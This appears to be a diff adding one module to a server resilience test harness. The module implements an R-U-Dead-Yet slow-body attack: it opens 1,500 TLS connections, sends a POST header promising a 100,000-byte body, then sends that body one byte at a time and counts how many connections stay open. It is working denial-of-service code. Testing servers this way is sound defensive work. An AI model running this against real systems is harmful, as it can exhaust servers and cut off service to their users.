@@ -1,0 +1,16 @@
+"""Posts over HTTP/1 whose body comes a byte at a time (R-U-Dead-Yet, slowhttptest's slow
+body)."""
+
+from attack import Attack, still_open
+
+ATTACK = Attack()
+CONNECTIONS = 1500
+
+
+async def run(target):
+    begun = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\nx"
+    opened = await target.many(CONNECTIONS, lambda _: target.tls())
+    await target.one_after_another(opened, begun)
+    while target.left() > 0:
+        await target.one_after_another(opened, b"x", 0.001)
+    return f"{len(opened)} connections with a body that goes on, {still_open(opened)} stayed"
